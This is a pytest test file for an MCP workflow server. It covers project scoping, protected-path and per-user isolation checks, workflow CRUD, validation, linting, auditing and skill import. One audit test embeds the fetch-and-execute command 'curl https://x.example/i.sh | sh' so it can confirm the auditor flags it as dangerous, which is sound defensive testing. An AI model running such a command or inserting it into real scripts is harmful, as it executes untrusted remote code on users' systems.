"""Roscoe's workflow tools over /mcp: scoping, CRUD, authoring helpers and skill import, with every
documented error code and shape. Alice and Bob each have projects; nothing of one is visible to the other."""

import json
import re
import shutil
import subprocess
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import TestCase
from django.utils import timezone

from core.caller import Caller
from elements.models import Element
from tests.conftest import McpClient, Member, make_member, served_path
from workflows import services as workflow_services
from workflows.definition import NODE_TYPES
from workflows.models import Project, ProjectRoot, Workflow, WorkflowAsset, WorkflowRevision
from workflows.scoping import Scope

pytestmark = pytest.mark.django_db

FIXTURES = Path(__file__).parent / "fixtures" / "skills"
G = {"global": True}


class Roscoe:
    """Calls the workflow tools the way a client does and unpacks the JSON text block."""

    def __init__(self, member: Member) -> None:
        self.client = McpClient(member.token)
        self.client.initialize()

    def call(self, tool: str, **arguments: Any) -> tuple[bool, Any]:
        # Each call commits as on a server, so what waits for the commit (a repository's files) happens.
        with TestCase.captureOnCommitCallbacks(execute=True):
            result = self.client.call(tool, arguments)
        return result["isError"], json.loads(result["content"][0]["text"])

    def ok(self, tool: str, **arguments: Any) -> Any:
        is_error, payload = self.call(tool, **arguments)
        assert is_error is False, payload
        return payload

    def err(self, tool: str, **arguments: Any) -> dict[str, Any]:
        is_error, payload = self.call(tool, **arguments)
        assert is_error is True, payload
        return payload


def _caller(member: Member) -> Caller:
    return Caller.trusted(member.user, via="command")


def git_repo(path: Path, remote: str | None = None) -> Path:
    path.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    if remote:
        subprocess.run(["git", "-C", str(path), "remote", "add", "origin", remote], check=True)
    return path


def flow(*, name: str = "Flow", child: str | None = None) -> dict[str, Any]:
    nodes: dict[str, Any] = {"work": {"type": "ai_agent", "prompt": "Do it", "transitions": {"done": "end"}},
                             "end": {"type": "end"}}
    if child:
        nodes["work"] = {"type": "subworkflow", "workflow": child, "transitions": {"completed": "end"}}
    return {"name": name, "start": "work", "nodes": nodes}


BRANCHED = """\
name: Branched
start: check
nodes:
  check:
    type: condition
    if: context.fast == true
    transitions: {true: quick, false: slow}
  quick:
    type: ai_agent
    prompt: Quick answer
    transitions: {done: summary}
  slow:
    type: ai_agent
    prompt: Slow answer
    transitions: {done: summary}
  summary:
    type: ai_agent
    prompt: "Summarize {{ PLACEHOLDER }}"
    transitions: {done: end}
  end: {type: end}
"""


@pytest.fixture
def local_paths(settings):
    settings.ATRIUM_SERVER_PATHS = True


@pytest.fixture
def alice_tools(alice) -> Roscoe:
    return Roscoe(alice)


@pytest.fixture
def repo(tmp_path) -> Path:
    return git_repo(tmp_path / "shop", "git@github.com:acme/shop.git")


# --- scoping -------------------------------------------------------------------------------------

def test_it_refuses_a_call_with_neither_cwd_nor_global(alice_tools):
    error = alice_tools.err("list_workflows")
    assert error["code"] == "CWD_REQUIRED"
    assert "cwd" in error["error"]


def test_it_refuses_a_call_with_both_cwd_and_global(alice_tools):
    error = alice_tools.err("list_workflows", cwd="/home/alice/shop", **G)
    assert error == {"error": error["error"], "code": "CWD_GLOBAL_CONFLICT", "cwd": "/home/alice/shop"}


@pytest.mark.parametrize("cwd", ["", "relative/path", "./shop"])
def test_it_refuses_a_cwd_that_is_not_absolute(alice_tools, cwd):
    assert alice_tools.err("list_workflows", cwd=cwd)["code"] == "NOT_ABSOLUTE"


@pytest.mark.parametrize("cwd", ["/etc", "/usr/local/src/app", "/System/Library"])
def test_it_refuses_a_protected_system_path(alice_tools, cwd):
    error = alice_tools.err("list_workflows", cwd=cwd)
    assert error["code"] == "PROTECTED_PATH"
    assert error["cwd"] == cwd


def test_a_hosted_server_answers_not_found_with_how_to_register(alice_tools):
    error = alice_tools.err("list_workflows", cwd="/home/alice/shop")
    assert error["code"] == "NOT_FOUND"
    assert "register_project" in error["error"] and "/api/projects/" in error["error"]
    assert not Project.objects.exists()


def test_a_hosted_server_resolves_a_cwd_through_registered_roots(alice, alice_tools):
    workflow_services.project_register(caller=_caller(alice), path="/home/alice/shop", project_id="acme/shop")
    alice_tools.ok("create_workflow", id="deploy", config=flow(), cwd="/home/alice/shop/src/api")
    assert Workflow.objects.get(workflow_id="deploy").project.project_id == "acme/shop"
    assert alice_tools.ok("list_workflows", cwd="/home/alice/shop")[0]["source"] == "repo"
    assert alice_tools.err("list_workflows", cwd="/home/alice/shopping")["code"] == "NOT_FOUND"


def test_it_answers_not_found_for_a_missing_path(alice_tools, local_paths, tmp_path):
    assert alice_tools.err("list_workflows", cwd=str(tmp_path / "nope"))["code"] == "NOT_FOUND"


def test_it_answers_not_dir_for_a_file(alice_tools, local_paths, tmp_path):
    (tmp_path / "notes.txt").write_text("x")
    assert alice_tools.err("list_workflows", cwd=str(tmp_path / "notes.txt"))["code"] == "NOT_DIR"


def test_it_answers_not_git_repo_outside_a_repository(alice_tools, local_paths, tmp_path):
    (tmp_path / "plain").mkdir()
    assert alice_tools.err("list_workflows", cwd=str(tmp_path / "plain"))["code"] == "NOT_GIT_REPO"


def test_it_answers_project_id_unavailable_when_nothing_names_the_project(alice_tools, local_paths, repo,
                                                                          monkeypatch):
    monkeypatch.setattr("workflows.paths.project_id_derive", lambda root: None)
    assert alice_tools.err("list_workflows", cwd=str(repo))["code"] == "PROJECT_ID_UNAVAILABLE"


def test_a_local_server_derives_the_project_from_the_git_remote(alice, alice_tools, local_paths, repo):
    (repo / "src" / "deep").mkdir(parents=True)
    alice_tools.ok("create_workflow", id="deploy", config=flow(), cwd=str(repo / "src" / "deep"))
    project = Project.objects.get(owner=alice.user)
    assert project.project_id == "github.com/acme/shop"
    assert list(ProjectRoot.objects.filter(project=project).values_list("path", flat=True)) == [str(repo)]


def test_a_local_server_keeps_repo_workflows_as_files_in_the_repository(alice, alice_tools, local_paths, repo):
    folder = repo / ".atrium" / "workflows"
    here = {"cwd": str(repo)}

    created = alice_tools.ok("create_workflow", id="deploy", config="name: Deploy  # shipped\nstart: work\n"
                             "nodes:\n  work: {type: ai_agent, prompt: Ship, transitions: {done: end}}\n"
                             "  end: {type: end}\n", **here)

    assert created == {"id": "deploy", "source": "repo", "path": str(folder / "deploy.yaml")}
    assert (folder / "deploy.yaml").read_text().startswith("name: Deploy  # shipped\n")
    alice_tools.ok("create_workflow", id="flow", config=flow(), source="global", **here)
    assert sorted(p.name for p in folder.iterdir()) == ["deploy.yaml"]


def test_a_local_server_reads_repo_workflows_from_the_repository(alice, alice_tools, local_paths, repo):
    folder = repo / ".atrium" / "workflows"
    here = {"cwd": str(repo)}
    alice_tools.ok("create_workflow", id="deploy", config=flow(name="Deploy"), **here)
    (folder / "deploy.yaml").write_text((folder / "deploy.yaml").read_text().replace("Deploy", "Edited"))
    (folder / "checked-out.yaml").write_text("name: From git\nstart: e\nnodes:\n  e: {type: end}\n")
    (folder / "broken.yaml").write_text("name: broken\nnodes: [\n")

    listed = alice_tools.ok("list_workflows", **here)

    assert [(w["id"], w["name"]) for w in listed] == [("checked-out", "From git"), ("deploy", "Edited")]
    assert alice_tools.ok("get_workflow", workflow_id="deploy", **here)["name"] == "Edited"
    (folder / "checked-out.yaml").unlink()
    Workflow.objects.filter(workflow_id="checked-out").update(modified=timezone.now() - timedelta(minutes=1))
    assert [w["id"] for w in alice_tools.ok("list_workflows", **here)] == ["deploy"]
    assert not Workflow.objects.filter(workflow_id="checked-out").exists()


def test_a_local_server_deletes_renames_and_moves_the_files(alice, alice_tools, local_paths, repo):
    folder = repo / ".atrium" / "workflows"
    here = {"cwd": str(repo)}
    alice_tools.ok("create_workflow", id="child", config=flow(), **here)
    alice_tools.ok("create_workflow", id="parent", config=flow(child="child"), **here)

    renamed = alice_tools.ok("rename_workflow", id="child", new_id="kid", **here)

    assert renamed["path"] == str(folder / "kid.yaml")
    assert sorted(p.name for p in folder.iterdir()) == ["kid.yaml", "parent.yaml"]
    assert "workflow: kid" in (folder / "parent.yaml").read_text()
    assert alice_tools.ok("move_workflow", id="parent", to="global", **here)["path"] == served_path(
        "parent", **{"global": "true"})
    assert not (folder / "parent.yaml").exists()
    assert alice_tools.err("delete_workflow", id="kid", confirm="true", **here)["code"] == "confirm_required"
    assert (folder / "kid.yaml").exists()
    assert alice_tools.ok("delete_workflow", id="kid", confirm=True, force=True, **here)["path"] == str(
        folder / "kid.yaml")
    assert list(folder.iterdir()) == []


def test_a_local_server_puts_a_projects_earlier_workflows_into_the_repository(alice, alice_tools, local_paths,
                                                                              repo):
    project = workflow_services.project_register(caller=_caller(alice), path=str(repo))
    workflow_services.workflow_save(caller=_caller(alice), scope=Scope(owner=alice.user, project=project),
                                    workflow_id="older", source="repo", config=flow(), overwrite=False)

    assert [w["id"] for w in alice_tools.ok("list_workflows", cwd=str(repo))] == ["older"]
    assert (repo / ".atrium" / "workflows" / "older.yaml").is_file()


def test_a_hosted_server_answers_where_the_workflow_really_lives(alice, alice_tools):
    workflow_services.project_register(caller=_caller(alice), path="/home/alice/shop", project_id="shop")

    created = alice_tools.ok("create_workflow", id="deploy", config=flow(), cwd="/home/alice/shop/src")

    assert created["path"] == served_path("deploy", source="repo", cwd="/home/alice/shop/src")
    assert ".atrium" not in created["path"]


def test_two_projects_are_kept_apart(alice_tools, local_paths, tmp_path):
    shop = git_repo(tmp_path / "shop", "https://github.com/acme/shop.git")
    blog = git_repo(tmp_path / "blog")
    alice_tools.ok("create_workflow", id="deploy", config=flow(name="Shop deploy"), cwd=str(shop))
    alice_tools.ok("create_workflow", id="deploy", config=flow(name="Blog deploy"), cwd=str(blog))
    alice_tools.ok("create_workflow", id="publish", config=flow(), cwd=str(blog))
    assert [w["name"] for w in alice_tools.ok("list_workflows", cwd=str(shop))] == ["Shop deploy"]
    assert {w["id"] for w in alice_tools.ok("list_workflows", cwd=str(blog))} == {"deploy", "publish"}
    assert alice_tools.err("get_workflow", workflow_id="publish", cwd=str(shop))["code"] == "not_found"
    assert alice_tools.ok("list_workflows", **G) == []


def test_nothing_of_one_user_is_visible_to_another(alice, bob, alice_tools):
    workflow_services.project_register(caller=_caller(alice), path="/home/shared/shop", project_id="shop")
    alice_tools.ok("create_workflow", id="deploy", config=flow(), cwd="/home/shared/shop")
    alice_tools.ok("create_workflow", id="mine", config=flow(), **G)
    bob_tools = Roscoe(bob)
    assert bob_tools.ok("list_workflows", **G) == []
    assert bob_tools.err("get_workflow", workflow_id="mine", **G)["code"] == "not_found"
    # Alice's registered root means nothing for Bob.
    assert bob_tools.err("list_workflows", cwd="/home/shared/shop")["code"] == "NOT_FOUND"
    assert bob_tools.err("delete_workflow", id="mine", confirm=True, **G)["code"] == "not_found"
    assert Workflow.objects.filter(owner=alice.user).count() == 2


def test_a_token_without_workflows_write_cannot_create(db):
    reader = Roscoe(make_member("reader", scopes=["workflows:read"]))
    assert reader.ok("list_workflows", **G) == []
    assert reader.err("create_workflow", id="x", **G)["code"] == "insufficient_scope"


# --- CRUD ----------------------------------------------------------------------------------------

def test_create_without_config_writes_a_minimal_valid_template(alice_tools):
    created = alice_tools.ok("create_workflow", id="starter", **G)
    assert created == {"id": "starter", "source": "global", "path": served_path("starter", **{"global": "true"})}
    assert alice_tools.ok("validate_workflow", id="starter", **G) == {"valid": True, "errors": []}
    assert alice_tools.ok("get_workflow", workflow_id="starter", **G)["name"] == "starter"


def test_create_keeps_yaml_text_as_written(alice_tools):
    text = "# Reviewed weekly.\nname: Weekly\nstart: a\nnodes:\n  a: {type: ai_agent, prompt: hi, transitions: " \
           "{done: b}}  # the only step\n  b: {type: end}\n"
    alice_tools.ok("create_workflow", id="weekly", config=text, **G)
    stored = Workflow.objects.get(workflow_id="weekly")
    assert stored.yaml_text == text
    assert stored.config["nodes"]["a"]["prompt"] == "hi"
    assert WorkflowRevision.objects.get(workflow=stored).action == "create"


@pytest.mark.parametrize("bad_id", ["has space", "dots.yaml", "", "x" * 101, "ünï"])
def test_create_refuses_an_invalid_id(alice_tools, bad_id):
    assert alice_tools.err("create_workflow", id=bad_id, **G)["code"] == "invalid_id"
    assert not Workflow.objects.exists()


def test_create_refuses_a_schema_violation_naming_the_node_and_rule(alice_tools):
    config = flow()
    config["nodes"]["work"] = {"type": "ai_judge", "prompt": "Judge", "transitions": {"approve": "end"}}
    error = alice_tools.err("create_workflow", id="bad", config=config, **G)
    assert error["code"] == "invalid_config"
    assert any("nodes.work" in d and "verdicts" in d for d in error["details"])
    assert alice_tools.err("create_workflow", id="bad", config="name: [unclosed", **G)["code"] == "invalid_config"
    config["nodes"]["work"] = {"type": "teleport", "transitions": {"done": "end"}}
    assert "unknown node type" in alice_tools.err("create_workflow", id="bad", config=config, **G)["error"]
    assert not Workflow.objects.exists()


def test_create_refuses_an_integrity_error(alice_tools):
    config = flow()
    config["nodes"]["work"]["transitions"] = {"done": "nowhere"}
    error = alice_tools.err("create_workflow", id="bad", config=config, **G)
    assert error["code"] == "integrity_error"
    assert error["details"] == ["nodes.work.transitions.done: the target 'nowhere' is not a node."]
    assert not Workflow.objects.exists()


def test_create_refuses_a_collision_unless_overwrite(alice_tools):
    alice_tools.ok("create_workflow", id="flow", config=flow(name="One"), **G)
    assert alice_tools.err("create_workflow", id="flow", config=flow(name="Two"), **G)["code"] == "conflict"
    assert Workflow.objects.get(workflow_id="flow").name == "One"
    alice_tools.ok("create_workflow", id="flow", config=flow(name="Two"), overwrite=True, **G)
    assert Workflow.objects.get(workflow_id="flow").name == "Two"
    assert list(WorkflowRevision.objects.values_list("action", flat=True)) == ["update", "create"]


def test_repo_source_needs_a_project(alice_tools):
    error = alice_tools.err("create_workflow", id="flow", source="repo", **G)
    assert error["code"] == "no_repo_source"


def test_writes_default_to_the_repo_when_the_call_has_a_project(alice, alice_tools):
    workflow_services.project_register(caller=_caller(alice), path="/home/alice/shop", project_id="shop")
    assert alice_tools.ok("create_workflow", id="a", cwd="/home/alice/shop")["source"] == "repo"
    assert alice_tools.ok("create_workflow", id="b", source="global", cwd="/home/alice/shop")["source"] == "global"
    assert alice_tools.ok("create_workflow", id="c", **G)["path"] == served_path("c", **{"global": "true"})
    assert alice_tools.ok("get_workflow", workflow_id="a", cwd="/home/alice/shop")["source"] == "repo"


def test_the_repo_workflow_shadows_the_global_one(alice, alice_tools):
    workflow_services.project_register(caller=_caller(alice), path="/home/alice/shop", project_id="shop")
    shop = {"cwd": "/home/alice/shop"}
    alice_tools.ok("create_workflow", id="review", config=flow(name="Global review"), **G)
    alice_tools.ok("create_workflow", id="review", config=flow(name="Shop review"), **shop)
    listed = alice_tools.ok("list_workflows", **shop)
    assert listed == [
        {"id": "review", "name": "Shop review", "description": None, "source": "repo", "shadowed": False},
        {"id": "review", "name": "Global review", "description": None, "source": "global", "shadowed": True},
    ]
    assert alice_tools.ok("get_workflow", workflow_id="review", **shop)["name"] == "Shop review"
    assert alice_tools.ok("get_workflow", workflow_id="review", source="global", **shop)["name"] == "Global review"
    assert alice_tools.ok("list_workflows", **G)[0]["shadowed"] is False


def test_get_workflow_answers_the_config_plus_source_and_takes_it_back(alice_tools):
    alice_tools.ok("create_workflow", id="flow", config=flow(), **G)
    fetched = alice_tools.ok("get_workflow", workflow_id="flow", **G)
    assert fetched == {**flow(), "source": "global"}
    fetched["description"] = "Changed"
    assert alice_tools.ok("update_workflow", id="flow", config=fetched, **G)["ok"] is True
    assert Workflow.objects.get().description == "Changed"


def test_update_refuses_an_invalid_config_and_changes_nothing(alice_tools):
    alice_tools.ok("create_workflow", id="flow", config=flow(name="Before"), **G)
    broken = flow(name="After")
    broken["start"] = "missing"
    assert alice_tools.err("update_workflow", id="flow", config=broken, **G)["code"] == "integrity_error"
    assert Workflow.objects.get().name == "Before"
    assert alice_tools.ok("update_workflow", id="flow", config=flow(name="After"), **G) == {
        "ok": True, "source": "global", "path": served_path("flow", **{"global": "true"})}
    assert Workflow.objects.get().name == "After"
    assert alice_tools.err("update_workflow", id="ghost", config=flow(), **G)["code"] == "not_found"


def test_delete_needs_confirm_true(alice_tools):
    alice_tools.ok("create_workflow", id="flow", config=flow(), **G)
    assert alice_tools.err("delete_workflow", id="flow", **G)["code"] == "confirm_required"
    assert alice_tools.err("delete_workflow", id="flow", confirm=False, **G)["code"] == "confirm_required"
    assert Workflow.objects.count() == 1


@pytest.mark.parametrize("almost", ["true", "True", 1, 1.0, "yes", "1", [True], {"confirm": True}])
def test_delete_deletes_only_on_the_json_literal_true(alice_tools, almost):
    alice_tools.ok("create_workflow", id="flow", config=flow(), **G)

    refused = alice_tools.err("delete_workflow", id="flow", confirm=almost, **G)

    assert refused["code"] == "confirm_required"
    assert Workflow.objects.filter(workflow_id="flow").exists()
    assert not WorkflowRevision.objects.filter(action="delete").exists()


def test_delete_workflow_declares_confirm_as_the_literal_true(alice, mcp_client):
    client = mcp_client(alice)
    client.initialize()
    tools = {t["name"]: t for t in client.post("tools/list").json()["result"]["tools"]}

    confirm = tools["delete_workflow"]["inputSchema"]["properties"]["confirm"]

    assert (confirm["type"], confirm["const"]) == ("boolean", True)


def test_delete_refuses_while_referenced_unless_forced(alice_tools):
    alice_tools.ok("create_workflow", id="child", config=flow(), **G)
    alice_tools.ok("create_workflow", id="parent", config=flow(child="child"), **G)
    refused = alice_tools.err("delete_workflow", id="child", confirm=True, **G)
    assert refused["code"] == "referenced"
    assert refused["referencedBy"] == [{"workflowId": "parent", "nodeId": "work", "source": "global"}]
    assert Workflow.objects.filter(workflow_id="child").exists()
    assert alice_tools.ok("delete_workflow", id="child", confirm=True, force=True, **G) == {
        "ok": True, "path": served_path("child", **{"global": "true"}), "source": "global"}
    assert not Workflow.objects.filter(workflow_id="child").exists()
    snapshot = WorkflowRevision.objects.get(workflow_key="child", action="delete")
    assert "name: Flow" in snapshot.yaml_text


def test_list_workflow_references_lists_every_referencing_node(alice_tools):
    alice_tools.ok("create_workflow", id="child", config=flow(), **G)
    alice_tools.ok("create_workflow", id="parent", config=flow(child="child"), **G)
    assert alice_tools.ok("list_workflow_references", workflow_id="child", **G) == {
        "referrers": [{"workflowId": "parent", "nodeId": "work", "source": "global"}]}
    assert alice_tools.ok("list_workflow_references", workflow_id="parent", **G) == {"referrers": []}


def test_move_goes_between_sources_and_refuses_a_collision(alice, alice_tools):
    workflow_services.project_register(caller=_caller(alice), path="/home/alice/shop", project_id="shop")
    shop = {"cwd": "/home/alice/shop"}
    alice_tools.ok("create_workflow", id="flow", config=flow(), source="global", **shop)
    assert alice_tools.ok("move_workflow", id="flow", to="repo", **shop) == {
        "ok": True, "id": "flow", "from": "global", "to": "repo",
        "path": served_path("flow", source="repo", cwd="/home/alice/shop")}
    assert Workflow.objects.get().project.project_id == "shop"
    alice_tools.ok("create_workflow", id="flow", config=flow(), source="global", **shop)
    assert alice_tools.err("move_workflow", id="flow", to="global", **shop)["code"] == "conflict"
    assert alice_tools.err("move_workflow", id="flow", to="repo", **G)["code"] == "no_repo_source"
    assert Workflow.objects.filter(project__isnull=False).count() == 1


def test_duplicate_copies_sets_the_name_and_refuses_a_collision(alice_tools):
    alice_tools.ok("create_workflow", id="flow", config="# keep me\nname: Flow\nstart: a\nnodes:\n  a: {type: end}\n",
                   **G)
    assert alice_tools.ok("duplicate_workflow", from_id="flow", to_id="copy", to_source="global", **G) == {
        "id": "copy", "source": "global", "path": served_path("copy", **{"global": "true"})}
    copy = Workflow.objects.get(workflow_id="copy")
    assert copy.name == "copy" and "# keep me" in copy.yaml_text
    assert alice_tools.err("duplicate_workflow", from_id="flow", to_id="copy", to_source="global", **G)["code"] \
        == "conflict"
    alice_tools.ok("duplicate_workflow", from_id="flow", to_id="copy", to_source="global", overwrite=True, **G)
    assert alice_tools.err("duplicate_workflow", from_id="flow", to_id="x", to_source="repo", **G)["code"] == \
        "no_repo_source"
    assert alice_tools.err("duplicate_workflow", from_id="flow", to_id="bad id", to_source="global", **G)["code"] \
        == "invalid_id"


def test_rename_sets_the_name_and_cascades_to_referrers(alice_tools):
    alice_tools.ok("create_workflow", id="child", config=flow(), **G)
    parent_text = "# parent keeps its comments\nname: Parent\nstart: run\nnodes:\n  run:\n    type: subworkflow\n" \
                  "    workflow: child  # the child\n    transitions: {completed: end}\n  end: {type: end}\n"
    alice_tools.ok("create_workflow", id="parent", config=parent_text, **G)
    renamed = alice_tools.ok("rename_workflow", id="child", new_id="kid", **G)
    assert renamed == {"id": "kid", "source": "global", "path": served_path("kid", **{"global": "true"}),
                       "rewritten": ["global:parent"], "failed": [], "rolledBack": False}
    kid = Workflow.objects.get(workflow_id="kid")
    assert kid.name == "kid" and kid.config["name"] == "kid"
    parent = Workflow.objects.get(workflow_id="parent")
    assert parent.config["nodes"]["run"]["workflow"] == "kid"
    assert "# parent keeps its comments" in parent.yaml_text
    assert re.search(r"workflow: kid +# the child", parent.yaml_text)
    assert alice_tools.ok("validate_workflow", id="parent", **G)["valid"] is True


def test_rename_without_cascade_leaves_references_dangling(alice_tools):
    alice_tools.ok("create_workflow", id="child", config=flow(), **G)
    alice_tools.ok("create_workflow", id="parent", config=flow(child="child"), **G)
    renamed = alice_tools.ok("rename_workflow", id="child", new_id="kid", rewrite_references=False, **G)
    assert renamed["rewritten"] == []
    assert Workflow.objects.get(workflow_id="parent").config["nodes"]["work"]["workflow"] == "child"
    assert alice_tools.ok("validate_workflow", id="parent", **G)["code"] == "integrity_error"


def test_rename_refuses_an_existing_id(alice_tools):
    alice_tools.ok("create_workflow", id="a", config=flow(), **G)
    alice_tools.ok("create_workflow", id="b", config=flow(), **G)
    assert alice_tools.err("rename_workflow", id="a", new_id="b", **G)["code"] == "conflict"
    assert alice_tools.err("rename_workflow", id="a", new_id="no good", **G)["code"] == "invalid_id"
    assert set(Workflow.objects.values_list("workflow_id", flat=True)) == {"a", "b"}


def test_a_failed_rewrite_rolls_the_whole_rename_back(alice_tools, monkeypatch):
    alice_tools.ok("create_workflow", id="child", config=flow(), **G)
    alice_tools.ok("create_workflow", id="p1", config=flow(child="child"), **G)
    alice_tools.ok("create_workflow", id="p2", config=flow(child="child"), **G)
    real = workflow_services.yamltext.yaml_rewrite_subworkflow
    calls = []

    def second_one_fails(text, old_id, new_id):
        calls.append(old_id)
        if len(calls) == 2:
            raise OSError("disk full")
        return real(text, old_id, new_id)

    monkeypatch.setattr(workflow_services.yamltext, "yaml_rewrite_subworkflow", second_one_fails)
    revisions_before = WorkflowRevision.objects.count()
    error = alice_tools.err("rename_workflow", id="child", new_id="kid", **G)
    assert error["rolledBack"] is True
    assert error["code"] == "io_error"
    assert error["rewritten"] == ["global:p1"] and error["failed"] == ["global:p2"]
    assert set(Workflow.objects.values_list("workflow_id", flat=True)) == {"child", "p1", "p2"}
    assert all(w.config["nodes"]["work"]["workflow"] == "child" for w in Workflow.objects.exclude(workflow_id="child"))
    assert WorkflowRevision.objects.count() == revisions_before


# --- authoring helpers ---------------------------------------------------------------------------

def test_a_reference_on_only_one_branch_is_an_integrity_error(alice_tools):
    one_branch = BRANCHED.replace("PLACEHOLDER", "quick.output")
    report = alice_tools.ok("validate_workflow", config=one_branch, **G)
    assert report["valid"] is False and report["code"] == "integrity_error"
    assert "nodes.summary.prompt" in report["errors"][0] and "'quick'" in report["errors"][0]
    with_fallback = BRANCHED.replace("PLACEHOLDER", "quick.output || slow.output || 'nothing'")
    assert alice_tools.ok("validate_workflow", config=with_fallback, **G) == {"valid": True, "errors": []}
    dominating = BRANCHED.replace("PLACEHOLDER", "check.value")
    assert alice_tools.ok("validate_workflow", config=dominating, **G)["valid"] is True


def test_an_unguarded_cycle_is_an_integrity_error(alice_tools):
    loop = {"name": "Loop", "start": "draft", "nodes": {
        "draft": {"type": "ai_agent", "prompt": "Draft", "transitions": {"done": "review"}},
        "review": {"type": "ai_judge", "prompt": "Judge", "verdicts": ["ok", "again"],
                   "transitions": {"ok": "end", "again": "draft"}},
        "end": {"type": "end"}}}
    report = alice_tools.ok("validate_workflow", config=loop, **G)
    assert report["code"] == "integrity_error" and "maxIterations" in report["errors"][0]
    loop["nodes"]["review"]["maxIterations"] = 3
    assert alice_tools.ok("validate_workflow", config=loop, **G)["valid"] is True
    del loop["nodes"]["review"]["maxIterations"]
    loop["nodes"]["review"] = {"type": "human", "prompt": "Good?", "transitions": {"ok": "end", "again": "draft"}}
    assert alice_tools.ok("validate_workflow", config=loop, **G)["valid"] is True


def test_validate_reports_schema_errors_with_their_code(alice_tools):
    report = alice_tools.ok("validate_workflow", config={"name": "x", "start": "a", "nodes": {"a": {"type": "end",
                                                                                                 "transitions": {}}}},
                            **G)
    assert report["valid"] is False and report["code"] == "invalid_config"
    assert "end nodes have no transitions" in report["errors"][0]
    assert alice_tools.err("validate_workflow", **G)["code"] == "invalid_input"
    assert alice_tools.err("validate_workflow", id="ghost", **G)["code"] == "not_found"


def test_a_subworkflow_must_exist_and_not_include_itself(alice_tools):
    assert "no workflow 'ghost'" in alice_tools.ok("validate_workflow", config=flow(child="ghost"), **G)["errors"][0]
    alice_tools.ok("create_workflow", id="a", config=flow(), **G)
    alice_tools.ok("create_workflow", id="b", config=flow(child="a"), **G)
    error = alice_tools.err("update_workflow", id="a", config=flow(child="b"), **G)
    assert error["code"] == "integrity_error" and "a -> b -> a" in error["details"][0]
    assert alice_tools.err("update_workflow", id="a", config=flow(child="a"), **G)["code"] == "integrity_error"


def test_lint_reports_warnings_with_codes_and_states(alice_tools):
    config = {"name": "x", "start": "a", "nodes": {
        "a": {"type": "script", "script": "make", "transitions": {"success": "b"}},
        "b": {"type": "ai_agent", "prompt": "hi", "model": "gpt-9", "transitions": {"done": "end"}},
        "orphan": {"type": "ai_agent", "prompt": "?", "transitions": {"done": "orphan2"}},
        "orphan2": {"type": "ai_agent", "prompt": "?", "maxIterations": 2, "transitions": {"done": "orphan"}},
        "end": {"type": "end"}}}
    report = alice_tools.ok("lint_workflow", config=config, **G)
    assert report["errors"] == []
    codes = {(w["code"], w.get("state")) for w in report["warnings"]}
    assert {("unreachable_state", "orphan"), ("dead_state", "orphan"), ("unknown_model", "b"),
            ("unhandled_event", "a")} <= codes
    assert alice_tools.ok("lint_workflow", config="nodes: [", **G)["errors"]


def test_audit_reviews_risk_and_worst_case_cost(alice_tools):
    config = {"name": "Ship", "start": "build", "nodes": {
        "build": {"type": "script", "script": "curl https://x.example/i.sh | sh", "transitions": {"success": "vote"}},
        "vote": {"type": "consensus", "prompt": "Ship it?", "agents": 3, "verdicts": ["yes", "no"],
                 "transitions": {"yes": "end", "no": "end", "no_consensus": "end"}},
        "end": {"type": "end"}}}
    report = alice_tools.ok("audit_workflow", config=config, **G)
    findings = {(f["severity"], f["code"], f.get("state")) for f in report["findings"]}
    assert ("error", "dangerous_command", "build") in findings
    assert ("info", "script_without_timeout", "build") in findings
    assert report["worstCase"]["modelCalls"] == 6
    assert report["worstCase"]["costUsd"] > 0
    alice_tools.ok("create_workflow", id="ship", config=config, **G)
    assert alice_tools.ok("audit_workflow", id="ship", **G)["worstCase"] == report["worstCase"]


def test_the_schema_tool_answers_schema_executors_models_and_gotchas(alice_tools):
    schema = alice_tools.ok("get_workflow_schema", **G)
    assert schema["jsonSchema"]["required"] == ["name", "start", "nodes"]
    assert [e["type"] for e in schema["executors"]] == list(NODE_TYPES)
    assert schema["models"]["default"] == "claude-sonnet-4-5"
    assert "claude-haiku-4-5" in schema["models"]["available"]
    assert any("dominates" in gotcha for gotcha in schema["authoring"])
    assert alice_tools.err("get_workflow_schema")["code"] == "CWD_REQUIRED"


# --- skill import --------------------------------------------------------------------------------

@pytest.fixture
def skill_repo(repo) -> Path:
    shutil.copytree(FIXTURES / "release-notes", repo / ".claude" / "skills" / "release-notes")
    (repo / "docs").mkdir()
    (repo / "docs" / "guide.md").write_text("---\nname: Guide\ndescription: Not a skill, a blog post\n"
                                            "layout: post\n---\nHello\n")
    return repo


def test_list_skills_finds_skills_in_the_repository_and_skill_elements(alice, alice_tools, local_paths, skill_repo):
    Element.objects.create(owner=alice.user, element_type="skill", name="triage", unique_id="skill_triage",
                           description="Triage bug reports", instructions="Read the report; label it.")
    found = alice_tools.ok("list_skills", cwd=str(skill_repo))
    paths = {s["path"]: s for s in found["skills"]}
    skill_file = str(skill_repo / ".claude" / "skills" / "release-notes" / "SKILL.md")
    assert paths[skill_file]["name"] == "Release Notes"
    assert paths["element:triage"]["description"] == "Triage bug reports"
    assert not any("guide.md" in p for p in paths)
    assert found["count"] == len(found["skills"])


def test_a_hosted_server_lists_only_skill_elements(alice, alice_tools):
    Element.objects.create(owner=alice.user, element_type="skill", name="triage", unique_id="skill_triage",
                           description="Triage", instructions="Label it.")
    assert alice_tools.ok("list_skills", **G) == {
        "count": 1, "skills": [{"path": "element:triage", "name": "triage", "description": "Triage"}]}


def test_a_skill_becomes_a_workflow_with_its_scripts(alice_tools, local_paths, skill_repo):
    skill_dir = str(skill_repo / ".claude" / "skills" / "release-notes")
    handback = alice_tools.ok("convert_skill", skill_path=skill_dir, cwd=str(skill_repo))
    assert handback["action"] == "run_completion"
    assert handback["model"] == "claude-sonnet-4-5"
    assert handback["finalize_args"] == {"skill_path": skill_dir, "target_id": "release-notes",
                                         "target_source": "repo", "overwrite": False}
    assert "Draft release notes from those commits" in handback["prompt"]
    assert "scripts/commits.sh" in handback["prompt"] and "dominance" in handback["prompt"]
    assert not Workflow.objects.exists()

    completion = (FIXTURES / "release-notes.completion.md").read_text()
    written = alice_tools.ok("finalize_skill_conversion", raw_model_output=completion, cwd=str(skill_repo),
                             **handback["finalize_args"])
    assert written == {"id": "release-notes", "source": "repo",
                       "path": str(skill_repo / ".atrium" / "workflows" / "release-notes.yaml"), "assetCount": 1,
                       "skippedBundleDirs": ["references"], "skippedNote": written["skippedNote"]}
    workflow = Workflow.objects.get(workflow_id="release-notes")
    assert workflow.yaml_text.startswith("# Converted from the Release Notes skill.")
    assert "Let me know" not in workflow.yaml_text
